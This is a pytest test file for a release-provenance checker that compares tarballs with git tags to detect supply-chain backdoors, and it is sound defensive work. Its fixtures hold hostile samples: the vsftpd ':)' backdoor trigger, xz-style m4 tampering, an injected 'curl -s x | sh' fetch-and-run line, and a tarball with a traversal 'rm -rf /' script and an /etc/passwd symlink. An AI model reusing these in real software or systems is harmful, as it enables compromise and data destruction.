"""Release tarball vs git tag, on xz-style fixtures built from the real xz-utils 5.4.1 release."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

import provcheck_release
import release_realdata as rd
from provcheck import InputSpec, Severity

HIGH = {"high", "critical"}


def verdicts(report) -> dict[str, dict]:
    target = next(a for a in report.artifacts if a.role == "target")
    return {v["path"]: v for v in report.extras["release"][target.name]["files"]}


def test_clean_xz_release_is_quiet(release_checker, xz_real):
    repo, tarball = rd.build_xz(release_checker, xz_real)
    result = release_checker.run(tarball, source=f"git:{repo}@v5.4.1")
    result.assert_no_errors()
    loud = [f for f in result.findings if f.severity >= Severity.MEDIUM]
    assert not loud, [(f.rule_id, f.location.path, f.message) for f in loud]
    summary = result.only("PC100")
    assert "need review" in summary.message and "recognised generated" in summary.message
    v = verdicts(result.report)
    assert v["configure"]["verdict"] == "generated" and "autoconf" in v["configure"]["how"]
    assert v["Makefile.in"]["verdict"] == "generated" and "automake" in v["Makefile.in"]["how"]
    assert v["m4/nls.m4"]["verdict"] == "generated" and "m4 database" in v["m4/nls.m4"]["how"]
    # gettext 0.21.1: no Debian release packaged it, but later autopoint packages carry its infrastructure
    assert v["m4/gettext.m4"]["verdict"] == "generated" and "gettext-0.21.1" in v["m4/gettext.m4"]["how"]
    assert v["m4/libtool.m4"]["verdict"] == "generated"
    assert v["build-aux/install-sh"]["verdict"] == "generated"
    assert v["src/liblzma/common/common.c"]["verdict"] == "identical"
    only = result.only("PC106")
    reasons = {f["path"]: f.get("reason") for f in only.evidence["files"]}
    assert reasons["tests/ossfuzz/fuzz_decode_stream.c"] == "export-ignore"
    assert reasons[".github/workflows/ci.yml"] == "git-only"


def test_xz_backdoor_pattern_is_critical(release_checker, xz_real, cli):
    """The 5.6.1 trigger: a relabelled gnulib macro only in the tarball, its expansion in configure."""
    git, release, _ = xz_real
    repo, tarball = rd.build_xz(
        release_checker, xz_real,
        git_changes={"tests/files/bad-3-corrupt_lzma2.xz": rd.BAD_TEST_FILE},
        release_changes={"tests/files/bad-3-corrupt_lzma2.xz": rd.BAD_TEST_FILE,
                         "m4/build-to-host.m4": rd.malicious_build_to_host("30"),
                         "configure": rd.configure_with_trigger(release["configure"])})
    code, data = cli.json("release", tarball, "--source", repo)  # tag v5.4.1 found from the version
    assert code == 1, data["errors"]
    by = {(f["rule_id"], f["location"]["path"]): f for f in data["findings"]}
    top = "xz-5.4.1/"
    inflated = by[("PC104", top + "m4/build-to-host.m4")]
    assert inflated["severity"] == "high"
    assert inflated["evidence"]["m4"]["serial"] == "30" and inflated["evidence"]["m4"]["max_serial"] == "5"
    assert "gl_am_configmake" in inflated["evidence"]["diff"]
    m4risk = by[("PC105", top + "m4/build-to-host.m4")]
    assert m4risk["severity"] == "critical"
    kinds = {h["indicator"] for h in m4risk["evidence"]["indicators"]}
    assert {"grep-source-tree", "tr-substitution", "eval-pipeline", "config-commands-exec"} <= kinds
    grep_line = next(h for h in m4risk["evidence"]["indicators"] if h["indicator"] == "grep-source-tree")
    assert "grep -aErls" in grep_line["text"] and grep_line["line"] > 1
    conf = by[("PC105", top + "configure")]
    assert conf["severity"] == "critical" and conf["location"]["lines"][0] > 1
    assert data["release"]["source_ref"] == "v5.4.1"
    files = {v["path"]: v for v in data["release"]["files"]}
    assert files["m4/build-to-host.m4"]["verdict"] == "generated-mismatch"
    assert files["tests/files/bad-3-corrupt_lzma2.xz"]["verdict"] == "identical"
    assert files["configure"]["verdict"] == "generated" and files["configure"]["severity"] == "critical"
    ci = files[".github/workflows/ci.yml"]  # only in the tag: listed with its blob id, never read from git
    assert ci["verdict"] == "only-in-source" and len(ci["source_git_blob"]) == 40 and "source_sha256" not in ci
    # the text report puts the files that matter first and the rest in one line
    text = cli("release", tarball, "--source", repo).stdout
    lines = text.splitlines()
    first = next(i for i, l in enumerate(lines) if "need review" in l)
    assert lines[first + 1].split()[0] == "CRITICAL"
    assert any(l.startswith("recognised: ") and "identical" in l for l in lines)
    assert text.index("m4/build-to-host.m4") < text.index("recognised: ")


def test_same_serial_changed_m4_is_critical_comment_change_is_not(release_checker, xz_real):
    git, release, _ = xz_real
    original = release["m4/lib-prefix.m4"].decode()
    assert "serial" in original.splitlines()[0]
    tampered = original.replace("AC_DEFUN([AC_LIB_PREFIX],\n[",
                                "AC_DEFUN([AC_LIB_PREFIX],\n[\n  gl_x=`cat $srcdir/tests/files/good-large_compressed.lzma"
                                " | xz -d | head -c 1024`\n", 1)
    assert tampered != original
    recommented = "dnl reviewed by the release manager\n" + original.replace("dnl ", "dnl  ", 3)
    repo, tarball = rd.build_xz(release_checker, xz_real, release_changes={
        "m4/lib-prefix.m4": tampered.encode(), "m4/lib-link.m4": recommented.encode()})
    result = release_checker.run(tarball, source=f"git:{repo}@v5.4.1")
    result.assert_no_errors()
    mismatch = [f for f in result.by_rule("PC103") if f.location.path.endswith("m4/lib-prefix.m4")]
    assert len(mismatch) == 1 and mismatch[0].severity == Severity.CRITICAL
    ev = mismatch[0].evidence
    assert "good-large_compressed.lzma" in ev["diff"] and ev["added_risk"]
    assert not [f for f in result.findings if f.location.path.endswith("m4/lib-link.m4")]
    assert "same code as" in verdicts(result.report)["m4/lib-link.m4"]["how"]


VSFTPD_STR_C = """/*
 * Part of Very Secure FTPd
 * str.c - string handling
 */
#include "str.h"

int
str_contains_space(const struct mystr* p_str)
{
  unsigned int i;
  for (i=0; i < p_str->len; i++)
  {
    if (vsf_sysutil_isspace(p_str->p_buf[i]))
    {
      return 1;
    }
  }
  return 0;
}
"""
VSFTPD_BACKDOOR = """    if (vsf_sysutil_isspace(p_str->p_buf[i]))
    {
      return 1;
    }
    else if((p_str->p_buf[i]==0x3a)
    && (p_str->p_buf[i+1]==0x29))
    {
      vsf_sysutil_extra();
    }
"""


def _vsftpd(checker, release_str_c: str, version_h: str):
    files = {"str.c": VSFTPD_STR_C, "str.h": "int str_contains_space(const struct mystr*);\n",
             "Makefile": "CC = gcc\nvsftpd: str.o\n\t$(CC) -o vsftpd str.o\n",
             "vsf_findlibs.sh": "#!/bin/sh\nlocate_library() { [ ! \"$1*\" = \"`echo $1*`\" ]; }\n",
             "version.h": '#define VSF_VERSION "2.3.4-dev"\n#define VSF_BUILD_DATE "unreleased"\n',
             "README": "vsftpd\n"}
    repo = checker.gitrepo(files, name="vsftpd", tags="2.3.4")
    release = dict(files, **{"str.c": release_str_c, "version.h": version_h})
    tarball = checker.tarball({f"vsftpd-2.3.4/{k}": v for k, v in release.items()}, name="vsftpd-2.3.4.tar.gz")
    return repo, tarball


def test_vsftpd_pattern_one_c_file_modified(release_checker, cli):
    backdoored = VSFTPD_STR_C.replace("""    if (vsf_sysutil_isspace(p_str->p_buf[i]))
    {
      return 1;
    }
""", VSFTPD_BACKDOOR)
    repo, tarball = _vsftpd(release_checker, backdoored,
                            '#define VSF_VERSION "2.3.4"\n#define VSF_BUILD_DATE "2011-07-03"\n')
    result = release_checker.run(tarball, source=str(repo))  # a plain repository: tag 2.3.4 guessed
    result.assert_no_errors()
    f = result.only("PC102")
    assert f.location.path == "vsftpd-2.3.4/str.c" and f.severity == Severity.HIGH
    assert "0x3a" in f.evidence["diff"] and f.location.lines and f.location.lines[0] >= 10
    assert f.related and f.related[0].artifact.startswith("vsftpd@")
    edit = result.only("PC107")
    assert edit.location.path.endswith("version.h") and edit.severity == Severity.INFO
    assert not [x for x in result.findings if x.severity >= Severity.HIGH and x is not f]
    # and the clean tarball of the same release is silent
    repo2, clean = _vsftpd(release_checker, VSFTPD_STR_C,
                           '#define VSF_VERSION "2.3.4"\n#define VSF_BUILD_DATE "2011-07-03"\n')
    proc = cli("release", clean, "--source", repo2)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "0 need review" in proc.stdout


def test_source_as_work_tree_and_as_known_good_tarball(release_checker, xz_real):
    git, release, top = xz_real
    small = {"configure.ac": git["configure.ac"], "Makefile.am": git["Makefile.am"],
             "src/liblzma/common/common.c": git["src/liblzma/common/common.c"]}
    repo = release_checker.gitrepo(small, name="xz", tags=["v5.4.1"])
    (repo / "src/liblzma/common/common.c").write_bytes(b"/* uncommitted edit in the work tree */\n")
    rel = {**small, "configure": release["configure"], "Makefile.in": release["Makefile.in"]}
    tarball = release_checker.tarball({f"{top}/{k}": v for k, v in rel.items()}, name="xz-5.4.1.tar.xz")
    result = release_checker.run(tarball, source=str(repo))  # a work tree: compared with the tag, not the edit
    result.assert_no_errors()
    assert not result.by_rule("PC102")
    assert result.only("PC100").evidence["source_ref"] == "v5.4.1"
    # a known-good earlier copy of the release as the source
    tampered = dict(rel, **{"configure": rd.configure_with_trigger(release["configure"])})
    bad = release_checker.tarball({f"{top}/{k}": v for k, v in tampered.items()}, name="xz-5.4.1-mirror.tar.gz")
    result = release_checker.run(bad, source=str(tarball))
    result.assert_no_errors()
    assert result.only("PC102").location.path == f"{top}/configure"
    assert result.only("PC105").severity == Severity.CRITICAL


@pytest.mark.parametrize("tag", ["v5.6.1", "5.6.1", "xz-5.6.1", "R_5_6_1", "xz-5_6_1", "V_5_6_1"])
def test_tag_spellings_found_through_the_cli(checker, cli, tag):
    repo = checker.gitrepo([{"a.c": "int a;\n"}, {"a.c": "int a = 1;\n"}], name="xz", tags=["v5.6.0-old", tag])
    tarball = checker.tarball({"xz-5.6.1/a.c": "int a = 1;\n"}, name="xz-5.6.1.tar.gz")
    code, data = cli.json("release", tarball, "--source", repo)
    assert code == 0, data
    assert data["release"]["source_ref"] == tag
    assert data["release"]["counts"] == {"identical": 1}


def test_no_tag_is_a_usage_error_and_ref_overrides(checker, cli):
    repo = checker.gitrepo([{"a.c": "int a;\n"}, {"a.c": "int a = 2;\n"}], name="proj", tags=["first", "second"])
    tarball = checker.tarball({"proj-9.9/a.c": "int a;\n"}, name="proj-9.9.tar.gz")
    proc = cli("release", tarball, "--source", repo)
    assert proc.returncode == 4 and "no tag for version 9.9" in proc.stderr and "v9.9" in proc.stderr
    assert "Traceback" not in proc.stderr
    code, data = cli.json("release", tarball, "--source", repo, "--ref", "first")
    assert code == 0 and data["release"]["counts"] == {"identical": 1}
    code, data = cli.json("release", tarball, "--source", repo, "--ref", "second")
    assert code == 1 and [f["rule_id"] for f in data["findings"] if f["severity"] == "high"] == ["PC102"]


def test_a_release_made_from_the_commit_before_the_tag_is_compared_with_that_commit(checker, cli):
    """libconfig 1.5: the tag is a merge made after the release, which equals the merge's first
    parent. Compared with that commit (said as PC109, medium, with the files whose tag changes the
    release lacks), not with the tag (twelve PC102 highs); a line added to the release on top of
    that commit is still high; one file differing is not enough to look elsewhere."""
    old = {"a.c": "int a;\n", "b.c": "int b;\n", "c.c": "int c;\n", "README": "p\n"}
    new = {"a.c": "long a;\n", "b.c": "long b;\n", "c.c": "long c;\n"}
    repo = checker.gitrepo([old, new], name="proj", tags=[None, "v1.5"])
    tarball = checker.tarball({f"proj-1.5/{k}": v for k, v in old.items()}, name="proj-1.5.tar.gz")
    code, data = cli.json("release", tarball, "--source", repo)
    assert code == 0, data
    [note] = [f for f in data["findings"] if f["rule_id"] == "PC109"]
    assert note["severity"] == "medium" and "made from v1.5~1" in note["message"], note
    assert sorted(note["evidence"]["differ_from_tag"]) == ["a.c", "b.c", "c.c"]
    assert data["release"]["source_ref"] == "v1.5~1" and data["release"]["counts"] == {"identical": 4}
    tampered = {**old, "b.c": "int b;\nvoid b2(void) { system(\"id\"); }\n"}
    tarball = checker.tarball({f"proj-1.5/{k}": v for k, v in tampered.items()}, name="proj-1.5.tar.gz")
    code, data = cli.json("release", tarball, "--source", repo)
    assert [(f["rule_id"], f["location"]["path"]) for f in data["findings"] if f["severity"] in HIGH] == \
        [("PC102", "proj-1.5/b.c")]
    one = checker.tarball({"proj-1.5/a.c": "int a;\n", **{f"proj-1.5/{k}": v for k, v in new.items() if k != "a.c"}},
                          name="proj-1.5.tar.gz")
    code, data = cli.json("release", one, "--source", repo)
    assert data["release"]["source_ref"] == "v1.5" and not [f for f in data["findings"] if f["rule_id"] == "PC109"]


def test_scan_runs_the_detector_when_a_source_is_given(checker, cli):
    repo = checker.gitrepo({"configure.ac": "AC_INIT([p], [1.0])\n", "p.c": "int p;\n"}, name="p", tags="v1.0")
    tarball = checker.tarball({"p-1.0/configure.ac": "AC_INIT([p], [1.0])\n", "p-1.0/p.c": "int p;\n",
                               "p-1.0/hook.c": "void hook(void) {}\n"}, name="p-1.0.tar.gz")
    proc = cli("scan", tarball, "--source", f"git:{repo}@v1.0", "--format", "json")
    data = json.loads(proc.stdout)
    got = {(f["rule_id"], f["location"]["path"], f["severity"]) for f in data["findings"]}
    assert ("PC101", "p-1.0/hook.c", "medium") in got
    pc100 = next(f for f in data["findings"] if f["rule_id"] == "PC100")
    assert {"path": "hook.c", "verdict": "unexplained", "rule": "PC101", "severity": "medium"}.items() <= \
        next(v for v in pc100["evidence"]["files"] if v["path"] == "hook.c").items()
    sarif = json.loads(cli("scan", tarball, "--source", f"git:{repo}@v1.0", "--format", "sarif").stdout)
    assert any(r["ruleId"] == "PC101" for r in sarif["runs"][0]["results"])


def test_project_expectations_from_config_and_knowledge_files(checker, cli):
    repo = checker.gitrepo({"configure.ac": "AC_INIT([p], [1.0])\n", "docs/p.md": "# p\n"}, name="p", tags="v1.0")
    tarball = checker.tarball({"p-1.0/configure.ac": "AC_INIT([p], [1.0])\n", "p-1.0/docs/p.md": "# p\n",
                               "p-1.0/src/hugehelp.c": "/* generated from docs/p.md by mkhelp.pl */\n"},
                              name="p-1.0.tar.gz")
    code, data = cli.json("release", tarball, "--source", repo)
    assert code == 0 and [f["rule_id"] for f in data["findings"] if f["severity"] == "medium"] == ["PC101"]
    (checker.base / "provcheck.toml").write_text(
        '[plugins.release]\ngenerated = [{paths = ["src/hugehelp.c"], inputs = ["/docs/p.md"], '
        'signature = "generated from docs", how = "mkhelp.pl output of the manual"}]\n')
    code, data = cli.json("release", tarball, "--source", repo)
    files = {v["path"]: v for v in data["release"]["files"]}
    assert files["src/hugehelp.c"]["verdict"] == "generated" and "mkhelp.pl" in files["src/hugehelp.c"]["how"]
    assert files["src/hugehelp.c"]["system"] == "project"
    (checker.base / "provcheck.toml").unlink()
    kfile = checker.base / "mkhelp.toml"
    kfile.write_text('name = "curl-like"\n[[generated]]\npaths = ["src/hugehelp.c"]\ninputs = ["/docs/*.md"]\n'
                     'how = "mkhelp"\nkind = "code"\n')
    code, data = cli.json("release", tarball, "--source", repo, "--knowledge", kfile)
    assert {v["path"]: v for v in data["release"]["files"]}["src/hugehelp.c"]["system"] == "curl-like"
    kfile.write_text('name = "broken"\n[[generated]]\npaths = []\n')
    proc = cli("release", tarball, "--source", repo, "--knowledge", kfile)
    assert proc.returncode == 3 and "paths" in proc.stdout and "Traceback" not in proc.stdout + proc.stderr


class KnowledgePlugin:
    """A third-party plugin teaching the release plugin a build system, as data."""

    @staticmethod
    def provcheck_release_buildsystems():
        return [{"name": "waf", "generated": [{"paths": ["waf"], "inputs": ["/wscript"],
                                               "signature": "^#!/usr/bin/env python", "how": "waf bundle"}]}]


def test_plugins_add_build_system_knowledge(release_checker):
    import provcheck
    provcheck.hookimpl(KnowledgePlugin.provcheck_release_buildsystems)
    repo = release_checker.gitrepo({"wscript": "def build(bld): pass\n"}, name="w", tags="v2.0")
    tarball = release_checker.tarball({"w-2.0/wscript": "def build(bld): pass\n",
                                       "w-2.0/waf": "#!/usr/bin/env python\n# bundled waf\n"}, name="w-2.0.tar.gz")
    release_checker.add_plugin(KnowledgePlugin())
    result = release_checker.run(tarball, source=str(repo))
    result.assert_no_errors()
    assert not result.by_rule("PC101")
    assert verdicts(result.report)["waf"]["system"] == "waf"


def test_hostile_release_never_tracebacks(release_checker, cli):
    from provcheck.testing import Symlink
    repo = release_checker.gitrepo({"a.c": "int a;\n"}, name="h", tags="v1.0")
    tarball = release_checker.tarball({"h-1.0/a.c": "int a;\n", "h-1.0/../../escape.sh": "#!/bin/sh\nrm -rf /\n",
                                       "h-1.0/link": Symlink("/etc/passwd"), "h-1.0/deep/\udcff.bin": b"\0\1",
                                       "h-1.0/configure": "#!/bin/sh\necho not autoconf\n"}, name="h-1.0.tar.gz")
    proc = cli("release", tarball, "--source", repo, "--format", "json")
    assert "Traceback" not in proc.stderr and proc.returncode in (1, 3)
    data = json.loads(proc.stdout)
    rules = {f["rule_id"] for f in data["findings"]}
    assert "PC901" in rules and "PC101" in rules
    truncated = release_checker.base / "h-1.0.tar.gz"
    cut = release_checker.base / "cut-h-1.0.tar.gz"
    cut.write_bytes(truncated.read_bytes()[:200])
    proc = cli("release", cut, "--source", repo)
    assert proc.returncode in (3, 5) and "Traceback" not in proc.stdout + proc.stderr
    proc = cli("release", release_checker.base / "missing-1.0.tar.gz", "--source", repo)
    assert proc.returncode in (4, 5) and "Traceback" not in proc.stderr


def test_rules_are_documented(release_checker):
    rules = provcheck_release.provcheck_register_rules()
    ids = [r.id for r in rules]
    assert ids == sorted(set(ids)) and all(re.fullmatch(r"PC1\d\d", i) for i in ids)
    assert {f"PC1{n:02d}" for n in range(10)} | {f"PC12{n}" for n in range(10)} <= set(ids)
    docs = (Path(__file__).resolve().parents[3] / "docs" / "plugins" / "release.md").read_text()
    for r in rules:
        for section in ("## What it does", "## Why is this bad?", "## Example", "## References"):
            assert section in r.doc, (r.id, section)
        assert f"| {r.id} |" in docs, r.id
    assert InputSpec.parse("git:/x@v1", "source").ref == "v1"


def test_project_in_a_subdirectory_and_the_wrong_repository(release_checker):
    files = {"configure.ac": "AC_INIT([expat], [2.5.0])\n", "lib/xmlparse.c": "int parse;\n",
             "lib/xmltok.c": "int tok;\n", "README.md": "expat\n"}
    repo = release_checker.gitrepo({**{f"expat/{k}": v for k, v in files.items()}, ".github/ci.yml": "on: push\n",
                                    "testdata/big.xml": "<a/>\n"}, name="libexpat", tags="R_2_5_0")
    tarball = release_checker.tarball({f"expat-2.5.0/{k}": v for k, v in files.items()}, name="expat-2.5.0.tar.gz")
    result = release_checker.run(tarball, source=str(repo))
    result.assert_no_errors()
    assert result.only("PC100").evidence["counts"]["identical"] == 4
    assert not result.by_rule("PC101") and not result.by_rule("PC109")
    assert result.report.extras["release"]["expat-2.5.0.tar.gz"]["source_prefix"] == "expat"
    other = release_checker.gitrepo({"src/main.rs": "fn main() {}\n", "Cargo.toml": "[package]\n"}, name="other",
                                    tags="v2.5.0")
    result = release_checker.run(tarball, source=str(other))
    mismatch = result.only("PC109")
    assert mismatch.severity == Severity.MEDIUM and mismatch.evidence["shared"] == 0


def test_python_sdist_metadata_is_recognised_and_injected_code_is_not(release_checker):
    """six 1.16.0's real sdist: PKG-INFO, six.egg-info/ and the [egg_info] setup.cfg rewrite
    are sdist outputs; code injected into six.py at publish time (the ultralytics pattern) is not."""
    files = rd.read_tar(rd.pypi_sdist("six==1.16.0", "six-1.16.0.tar.gz"))
    top = "six-1.16.0"
    release = {k.split("/", 1)[1]: v for k, v in files.items()}
    git = {k: v for k, v in release.items() if k != "PKG-INFO" and not k.startswith("six.egg-info/")}
    git["setup.cfg"] = release["setup.cfg"].split(b"[egg_info]")[0]
    repo = release_checker.gitrepo(git, name="six", tags="1.16.0")
    result = release_checker.run(release_checker.tarball({f"{top}/{k}": v for k, v in release.items()},
                                                         name="six-1.16.0.tar.gz"), source=str(repo))
    result.assert_no_errors()
    assert not [f for f in result.findings if f.severity > Severity.INFO], result.findings
    v = verdicts(result.report)
    assert v["PKG-INFO"]["system"] == "python" and v["six.egg-info/SOURCES.txt"]["verdict"] == "generated"
    assert v["setup.cfg"]["verdict"] == "regenerated"
    injected = dict(release, **{"six.py": release["six.py"] + b"\nimport os\nos.system('curl -s x | sh')\n"})
    result = release_checker.run(release_checker.tarball({f"{top}/{k}": v for k, v in injected.items()},
                                                         name="six-1.16.0.tar.gz"), source=str(repo))
    f = result.only("PC102")
    assert f.location.path == f"{top}/six.py" and f.severity == Severity.HIGH and "os.system" in f.evidence["diff"]


def test_release_runs_only_its_detector_unless_others_are_named(release_checker, xz_real):
    """``release`` is the focused command: the test-data detector (installed, autoloaded)
    does not run unless named with -p; ``scan`` with a source runs every detector."""
    repo, tarball = rd.build_xz(release_checker, xz_real)

    def rule_ids(*args: str) -> set[str]:
        res = release_checker.run_cli(*args, "--format", "json")
        assert res.stdout, res.stderr
        return {f["rule_id"] for f in json.loads(res.stdout)["findings"]}

    focused = rule_ids("release", tarball, "--source", repo)
    assert "PC100" in focused and all(r.startswith(("PC1", "PC9")) for r in focused), focused
    everything = rule_ids("scan", tarball, "--source", f"git:{repo}@v5.4.1")
    assert "PC100" in everything and any(r.startswith("PC2") for r in everything), everything
    named = rule_ids("-p", "testdata", "release", tarball, "--source", repo)
    assert any(r.startswith("PC2") for r in named), named
